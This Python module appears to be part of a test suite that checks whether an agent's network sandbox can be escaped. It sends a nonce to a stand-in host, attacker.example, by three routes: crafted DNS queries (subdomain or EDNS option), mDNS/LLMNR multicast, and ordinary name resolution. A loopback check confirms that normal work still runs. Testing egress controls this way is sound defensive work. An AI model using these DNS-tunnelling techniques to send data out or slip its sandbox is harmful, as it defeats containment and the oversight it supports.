"""Out through name resolution and other services that look harmless."""

from __future__ import annotations

import contextlib
import os
import socket
import struct

from netns.escapes.task import Task

_TYPES = {"A": 1, "NULL": 10, "TXT": 16, "AAAA": 28, "HTTPS": 65, "ANY": 255, "MX": 15, "PTR": 12}


def question(name: str, kind: str = "A", option: bytes = b"") -> bytes:
    """One DNS query (RFC 1035 section 4.1), with an EDNS option if one is given (RFC 6891)."""
    labels = b"".join(bytes((len(label),)) + label.encode() for label in name.split("."))
    head = os.urandom(2) + struct.pack("!HHHHH", 0x0100, 1, 0, 0, 1 if option else 0)
    asked = labels + struct.pack("!BHH", 0, _TYPES[kind], 1)
    if option:
        data = struct.pack("!HH", 65001, len(option)) + option
        asked += struct.pack("!BHHIH", 0, 41, 4096, 0, len(data)) + data
    return head + asked


def _server(task: Task) -> str:
    if task.args.get("server"):
        server: str = task.world[task.args["server"]]
        return server
    with open("/etc/resolv.conf") as file:
        return next(line.split()[1] for line in file if line.startswith("nameserver"))


def dns(task: Task) -> str:
    """Ask for a name that carries the message."""
    name = f"{task.nonce.decode()}.attacker.example"
    if task.args.get("edns"):
        message = question("attacker.example", option=task.nonce)
    else:
        message = question(name, task.args.get("type", "A"))
    server = _server(task)
    family = socket.AF_INET6 if ":" in server else socket.AF_INET
    port = task.args.get("port", 53)
    if task.args.get("tcp"):
        with socket.socket(family, socket.SOCK_STREAM) as end:
            end.settimeout(1.5)
            end.connect((server, port))
            end.sendall(struct.pack("!H", len(message)) + message)
            with contextlib.suppress(TimeoutError):
                return f"{len(end.recv(4096))} bytes came back"
    else:
        with socket.socket(family, socket.SOCK_DGRAM) as end:
            end.settimeout(0.4)
            end.connect((server, port))
            end.send(message)
            with contextlib.suppress(TimeoutError):
                return f"{len(end.recv(4096))} bytes came back"
    return "no answer"


def group_query(task: Task) -> str:
    """Multicast names, mDNS or LLMNR, to everybody on the link."""
    group, port = task.args["group"], task.args["port"]
    family = socket.AF_INET6 if ":" in group else socket.AF_INET
    message = question(f"{task.nonce.decode()}.local")
    saw = "no device"
    with socket.socket(family, socket.SOCK_DGRAM) as end:
        for index, name in socket.if_nameindex():
            try:
                if family == socket.AF_INET6:
                    end.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_MULTICAST_IF, index)
                else:
                    choice = struct.pack("=4s4si", bytes(4), bytes(4), index)
                    end.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_IF, choice)
                end.sendto(message, (group, port))
                saw = f"sent on {name}"
            except OSError as error:
                saw = os.strerror(error.errno or 0)
    return saw


def resolve(task: Task) -> str:
    """Ask the C library, whatever it asks."""
    with contextlib.suppress(socket.gaierror):
        found = socket.getaddrinfo(f"{task.nonce.decode()}.attacker.example", 80)
        return f"{found[0][4][0]}"
    return "unknown name"


def own_service(task: Task) -> str:
    """Work: a server and a client of the agent's own on 127.0.0.1 and ::1 must reach each other."""
    for family, host in ((socket.AF_INET, "127.0.0.1"), (socket.AF_INET6, "::1")):
        with socket.socket(family, socket.SOCK_STREAM) as listener:
            listener.bind((host, 0))
            listener.listen()
            with socket.create_connection(listener.getsockname()[:2], 2) as end:
                accepted, _ = listener.accept()
                with accepted:
                    end.sendall(task.nonce)
                    if accepted.recv(100) != task.nonce:
                        return f"broken on {host}"
    return task.gain("works")
